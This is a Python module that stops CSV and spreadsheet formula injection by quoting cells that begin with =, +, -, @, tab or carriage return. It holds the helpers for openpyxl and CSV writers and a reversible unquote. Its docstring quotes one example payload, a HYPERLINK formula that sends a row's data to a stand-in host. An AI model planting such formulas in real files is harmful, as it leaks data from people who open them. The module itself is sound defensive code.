"""Cells of the spreadsheets and CSV files we write: text from data never becomes a live formula.

A spreadsheet reads text that starts with = + - @ (and, in CSV, a tab or a carriage return before them) as a
formula: a name typed "=HYPERLINK("http://x/?"&A1,"x")" in a registry file would become a link that sends
the row's data away when clicked (OWASP "CSV injection"). Every xlsx and CSV the application writes goes
through these helpers (tests/test_files_out.py checks that no writer is left out):

- xlsx: such text is written as an explicit string cell with Excel's quote prefix (shown as typed, still
  text when edited); the value itself is unchanged, so reading the file back gives the text as written.
- CSV: such text gets a leading apostrophe (OWASP's advice). A value that already starts with apostrophes
  before a dangerous character gets one more, so `from_csv` (used by our own CSV readers) undoes exactly
  what `to_csv` did.

Numbers (int, float, Decimal, negative ones too) are written as numbers, never altered. No cell we write is
a formula on purpose (the worklist's drop-down list is a data validation, not a cell).
"""
from __future__ import annotations

import re
from collections.abc import Iterable

DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
# One or more apostrophes then a dangerous character: the text `to_csv` quoted (and `from_csv` unquotes).
_QUOTED = re.compile(r"'+[=+\-@\t\r]")
#: The same test for DuckDB's regexp_matches (RE2), for the engine's CSV read in SQL.
QUOTED_SQL_PATTERN = r"^'+[=+\-@\t\r]"


#: The line end of the CSVs we write. Python 3.11's csv.writer quotes a field holding a carriage return only when
#: the line end has one: with "\n", a CR in a name (data can hold one) splits the row for every reader.
CSV_LINE_END = "\r\n"


def is_dangerous(value: object) -> bool:
    """Text a spreadsheet would read as a formula (numbers are never dangerous: they are written as numbers)."""
    return isinstance(value, str) and value.startswith(DANGEROUS_STARTS)


def to_csv(value: object) -> object:
    """A CSV field: dangerous text (or text already quoted that way) with one more leading apostrophe."""
    if isinstance(value, str) and (value.startswith(DANGEROUS_STARTS) or _QUOTED.match(value)):
        return QUOTE + value
    return value


def csv_row(values: Iterable[object]) -> list[object]:
    """A row for csv.writer.writerow with every field through `to_csv`."""
    return [to_csv(v) for v in values]


def from_csv(text: str) -> str:
    """The value `to_csv` was given: one leading apostrophe removed where `to_csv` added it."""
    return text[1:] if _QUOTED.match(text) else text


def xlsx(ws, value: object) -> object:
    """The value as openpyxl should write it in sheet `ws` (normal or write-only): dangerous text as a string
    cell with the quote prefix, anything else as it is."""
    if not is_dangerous(value):
        return value
    from openpyxl.cell import WriteOnlyCell  # a plain openpyxl Cell, usable in normal sheets too

    cell = WriteOnlyCell(ws, value=value)
    mark_text(cell)
    return cell


def xlsx_row(ws, values: Iterable[object]) -> list[object]:
    """A row for ws.append with every value through `xlsx`."""
    return [xlsx(ws, v) for v in values]


def header_row(ws, columns: Iterable[tuple[str, float]]) -> None:
    """The list exports' first row in a write-only sheet: each column's width, the headers in bold, frozen
    below them (set before any row is appended, as write-only sheets require)."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    columns = list(columns)
    for i, (_header, width) in enumerate(columns, start=1):
        ws.column_dimensions[get_column_letter(i)].width = width
    ws.freeze_panes = "A2"
    bold = Font(bold=True)
    cells = []
    for header, _width in columns:
        cell = WriteOnlyCell(ws, value=header)
        cell.font = bold
        cells.append(cell)
    ws.append(cells)


def mark_text(cell) -> None:
    """Make an openpyxl cell holding text a string cell with the quote prefix (never data_type "f")."""
    cell.data_type = "s"
    cell.quotePrefix = True
